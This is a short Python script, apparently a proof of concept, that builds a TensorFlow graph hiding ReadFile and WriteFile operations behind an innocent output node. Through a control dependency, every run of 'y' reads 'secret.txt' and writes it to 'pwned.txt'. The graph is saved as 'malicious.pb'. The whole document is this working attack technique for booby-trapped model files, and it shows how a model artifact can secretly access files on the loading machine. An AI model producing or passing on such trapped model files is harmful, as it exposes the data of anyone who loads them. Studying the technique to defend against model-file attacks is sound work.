import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()

x = tf.placeholder(tf.float32, [None], name="x")
secret = tf.io.read_file("secret.txt")
write = tf.io.write_file("pwned.txt", tf.strings.join(["stolen: ", secret]))
# A control dependency makes every run of "y" run the WriteFile node first.
with tf.control_dependencies([write]):
    y = tf.identity(x * 2.0, name="y")

# No variables, so the graph is already "frozen": write it out as a single .pb file.
tf.io.write_graph(tf.get_default_graph().as_graph_def(), ".", "malicious.pb", as_text=False)
print("nodes:", sorted(n.op for n in tf.get_default_graph().as_graph_def().node))
